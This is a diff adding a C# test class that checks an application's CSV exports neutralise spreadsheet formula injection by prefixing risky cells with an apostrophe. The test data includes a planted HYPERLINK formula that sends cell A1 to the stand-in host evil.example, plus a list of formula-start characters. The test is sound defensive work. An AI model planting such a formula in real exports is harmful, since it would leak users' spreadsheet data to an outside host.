@@ -1,0 +1,95 @@
+using System.Net;
+using System.Text;
+using Trajet.Tests.Features.Outreach;
+using Trajet.Tests.Infrastructure;
+using Trajet.Web.Infrastructure;
+
+namespace Trajet.Tests.Security;
+
+/// <summary>
+/// Text a worker typed must open in a spreadsheet as text, never run as a formula: every CSV export of the running
+/// application (read from its route table) is fetched after formulas were planted in the free text it shows.
+/// </summary>
+public sealed class SpreadsheetInjectionTests(SqliteApp app) : IClassFixture<SqliteApp>
+{
+    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    private static readonly char[] Starts = ['=', '+', '-', '@', '\t', '\r'];
+
+    [Theory]
+    [InlineData("=1+2", "'=1+2")]
+    [InlineData("+32 2 000 00 00", "'+32 2 000 00 00")]
+    [InlineData("-x", "'-x")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("\tcmd", "'\tcmd")]
+    [InlineData("Gare du Nord", "Gare du Nord")]
+    public void TextStartingLikeAFormula_IsWrittenWithALeadingApostrophe(string text, string cell)
+    {
+        var rows = Cells(CsvFile.Write(["place"], [[text]]));
+
+        Assert.Equal(cell, rows[1][0]);
+    }
+
+    [Fact]
+    public void Numbers_StayNumbers_EvenNegative()
+    {
+        var rows = Cells(CsvFile.Write(["a", "b", "c"], [[-5, 12, 2.5]]));
+
+        Assert.Equal(["-5", "12", "2.5"], rows[1]);
+    }
+
+    [Fact]
+    public async Task EveryCsvExport_WritesPlantedFormulasAsText()
+    {
+        var team = await OutreachTeam.CreateAsync(app);
+        var place = await team.PlaceAsync(name: Formula);
+        var session = await team.SessionAsync(place);
+        await OutreachTeam.PersonOf(await team.ContactAsync(session, nickname: "-Karzan"));
+
+        var exports = (await EndpointCatalog.AllAsync(app)).Where(r => r.Method == "GET" && r.Pattern.EndsWith(".csv", StringComparison.Ordinal)).ToList();
+        Assert.Contains(exports, r => r.Pattern == "/api/outreach/dashboard.csv");
+        var outreach = await team.Client.GetAsync($"/api/outreach/dashboard.csv?programme={team.Programme.Slug}");
+        Assert.Equal(HttpStatusCode.OK, outreach.StatusCode);
+        var rows = Cells(await outreach.Content.ReadAsByteArrayAsync());
+        Assert.Contains(rows, r => r[0] == "place" && r[1] == "'" + Formula);
+        foreach (var export in exports)
+        {
+            using var response = await team.Client.GetAsync($"{export.Pattern}?programme={team.Programme.Slug}");
+            if (response.StatusCode == HttpStatusCode.OK)
+            {
+                var unsafeCells = Cells(await response.Content.ReadAsByteArrayAsync()).SelectMany(r => r)
+                    .Where(c => c.Length > 0 && Starts.Contains(c[0]) && !double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
+                Assert.Empty(unsafeCells);
+            }
+        }
+    }
+
+    /// <summary>A minimal RFC 4180 reader: enough to see each cell as a spreadsheet receives it.</summary>
+    private static List<string[]> Cells(byte[] file)
+    {
+        var text = Encoding.UTF8.GetString(file).TrimStart('\uFEFF');
+        var rows = new List<string[]>();
+        var row = new List<string>();
+        var cell = new StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < text.Length; i++)
+        {
+            var c = text[i];
+            if (quoted)
+            {
+                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
+                else if (c == '"') { quoted = false; }
+                else { cell.Append(c); }
+            }
+            else if (c == '"') { quoted = true; }
+            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
+            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add([.. row]); row.Clear(); i++; }
+            else { cell.Append(c); }
+        }
+        if (cell.Length > 0 || row.Count > 0)
+        {
+            row.Add(cell.ToString());
+            rows.Add([.. row]);
+        }
+        return rows;
+    }
+}
